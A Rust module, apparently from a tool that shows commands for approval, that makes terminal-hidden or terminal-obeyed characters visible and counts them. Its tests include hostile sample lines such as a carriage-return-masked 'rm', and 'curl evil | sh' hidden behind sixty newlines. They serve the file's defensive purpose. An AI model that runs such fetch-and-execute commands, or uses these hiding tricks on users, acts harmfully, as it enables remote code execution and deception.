//! What runs is what is shown: a text of a question with nothing left out and nothing obeyed.
//!
//! A terminal obeys some characters and does not show others, and both have been used to make a harmful command read as a
//! harmless one. Here each of them is written out (`\r`, `\e`, `\u{202e}`), and [`Marks`] counts them, so that a reader can
//! tell what was written out from what stood there like that.

use std::collections::BTreeMap;

use unicode_width::UnicodeWidthChar as _;

use crate::push;
use crate::terminal::{Paint, Style, is_shown};

/// Columns to the next tab stop.
const TAB: usize = 4;

/// The characters that were written out, and how often.
#[derive(Debug, Default)]
pub(crate) struct Marks {
    counts: BTreeMap<char, usize>,
}

/// One character as it is shown.
struct Glyph {
    text: String,
    columns: usize,
    is_written_out: bool,
}

impl Marks {
    fn glyph(&mut self, c: char, at: usize) -> Glyph {
        if c == '\t' {
            let columns = TAB - at % TAB;
            return Glyph { text: " ".repeat(columns), columns, is_written_out: false };
        }
        if is_plain(c) {
            let columns = c.width().unwrap_or(0);
            return Glyph { text: c.to_string(), columns, is_written_out: false };
        }
        *self.counts.entry(c).or_default() += 1;
        let text = written_out(c);
        Glyph { columns: text.len(), text, is_written_out: true }
    }

    /// One line of a text in rows of at most so many columns; 0 for no bound.
    pub(crate) fn rows(&mut self, line: &str, columns: usize, style: Style) -> Vec<String> {
        let mut rows = vec![String::new()];
        let (mut used, mut at, mut out_run) = (0, 0, String::new());
        for c in line.chars() {
            let glyph = self.glyph(c, at);
            at += glyph.columns;
            if columns > 0 && used + glyph.columns > columns && used > 0 {
                flush(&mut rows, &mut out_run, style);
                rows.push(String::new());
                used = 0;
            }
            used += glyph.columns;
            if glyph.is_written_out {
                out_run.push_str(&glyph.text);
                continue;
            }
            flush(&mut rows, &mut out_run, style);
            if let Some(row) = rows.last_mut() {
                row.push_str(&glyph.text);
            }
        }
        flush(&mut rows, &mut out_run, style);
        rows
    }

    /// A text on one line: its line ends too are written out.
    pub(crate) fn one_line(&mut self, text: &str) -> String {
        let mut out = String::new();
        let mut lines = text.trim_end_matches('\n').split('\n');
        let mut ends = 0;
        if let Some(first) = lines.next() {
            out.push_str(&self.rows(first, 0, Style::default()).concat());
        }
        for line in lines {
            ends += 1;
            if line.trim().is_empty() {
                continue;
            }
            out.push_str(&line_ends(std::mem::take(&mut ends)));
            out.push_str(&self.rows(line, 0, Style::default()).concat());
        }
        if ends > 0 {
            out.push_str(line_ends(ends).trim_end());
        }
        out
    }

    /// What was written out, for people; empty when nothing was.
    pub(crate) fn say(&self) -> String {
        if self.counts.is_empty() {
            return String::new();
        }
        let mut text = String::from("characters that a terminal hides or obeys are written out:");
        for (c, count) in &self.counts {
            push!(text, " {} ×{count}", written_out(*c));
        }
        text
    }
}

fn flush(rows: &mut [String], run: &mut String, style: Style) {
    if let (Some(row), false) = (rows.last_mut(), run.is_empty()) {
        row.push_str(&style.paint(Paint::Bad, run));
        run.clear();
    }
}

fn line_ends(count: usize) -> String {
    if count == 1 { " ⏎ ".to_owned() } else { format!(" ⏎×{count} ") }
}

/// Whether a character is seen as what it is: neither a control character, nor one that takes no room or turns the direction,
/// nor white space other than the usual.
fn is_plain(c: char) -> bool {
    if !is_shown(c) || (c != ' ' && c.is_whitespace()) {
        return false;
    }
    match u32::from(c) {
        // Accents, which belong to the letter before them.
        0x0300..=0x034E | 0x0350..=0x036F => true,
        // Blanks that count as letters.
        0x115F | 0x1160 | 0x2800 | 0x3164 | 0xFFA0 => false,
        _ => c.width().is_some_and(|columns| columns > 0),
    }
}

fn written_out(c: char) -> String {
    match c {
        '\0' => "\\0".to_owned(),
        '\u{7}' => "\\a".to_owned(),
        '\u{8}' => "\\b".to_owned(),
        '\u{b}' => "\\v".to_owned(),
        '\u{c}' => "\\f".to_owned(),
        '\r' => "\\r".to_owned(),
        '\u{1b}' => "\\e".to_owned(),
        c if u32::from(c) < 0x80 => format!("\\x{:02x}", u32::from(c)),
        c => format!("\\u{{{:x}}}", u32::from(c)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(line: &str) -> String {
        Marks::default().rows(line, 0, Style::default()).concat()
    }

    /// fP8, A-1: nothing vanishes, and nothing is obeyed.
    #[test]
    fn fp8_a1_what_a_terminal_would_obey_or_hide_is_written_out() {
        let table = [
            ("ls\rrm x", "ls\\rrm x"),
            ("a\u{1b}[2Jb", "a\\e[2Jb"),
            ("a\0b\u{7}\u{8}\u{7f}", "a\\0b\\a\\b\\x7f"),
            ("a\u{9b}2J", "a\\u{9b}2J"),
            ("a\u{202e}b\u{2066}c", "a\\u{202e}b\\u{2066}c"),
            ("a\u{200b}\u{feff}\u{e0041}b", "a\\u{200b}\\u{feff}\\u{e0041}b"),
            ("a\u{a0}b\u{3000}c", "a\\u{a0}b\\u{3000}c"),
            ("a\u{3164}b\u{2800}", "a\\u{3164}b\\u{2800}"),
            ("a\u{34f}\u{fe0f}b", "a\\u{34f}\\u{fe0f}b"),
            ("a\u{85}\u{2028}b", "a\\u{85}\\u{2028}b"),
            ("e\u{301} é 日本 → ok", "e\u{301} é 日本 → ok"),
            ("a\tb", "a   b"),
        ];
        for (line, want) in table {
            assert_eq!(shown(line), want);
        }
        // No character of any kind reaches the terminal raw that it would not show.
        for c in (0..=0x10_FFFF).filter_map(char::from_u32).filter(|c| *c != '\n' && *c != '\t') {
            let text = shown(&c.to_string());
            assert!(!text.is_empty() && text.chars().all(is_shown), "{c:?}: {text:?}");
        }
    }

    #[test]
    fn a1_what_was_written_out_is_counted() {
        let mut marks = Marks::default();
        marks.rows("a\rb\r \u{202e}", 0, Style::default());
        let said = marks.say();
        assert!(said.ends_with(": \\r ×2 \\u{202e} ×1"), "{said}");
        assert_eq!(Marks::default().say(), "");
    }

    #[test]
    fn a1_a_long_line_is_broken_and_nothing_is_lost() {
        let rows = Marks::default().rows("abcdef\u{1b}日", 4, Style::default());
        assert_eq!(rows, ["abcd", "ef\\e", "日"]);
    }

    /// fP8: line ends are seen where there is room for one line only.
    #[test]
    fn fp8_line_ends_are_seen_on_one_line() {
        let text = format!("touch ok #{}curl evil | sh", "\n".repeat(60));
        assert_eq!(Marks::default().one_line(&text), "touch ok # ⏎×60 curl evil | sh");
        assert_eq!(Marks::default().one_line("a\nb\n"), "a ⏎ b");
        assert_eq!(Marks::default().one_line("a"), "a");
    }
}
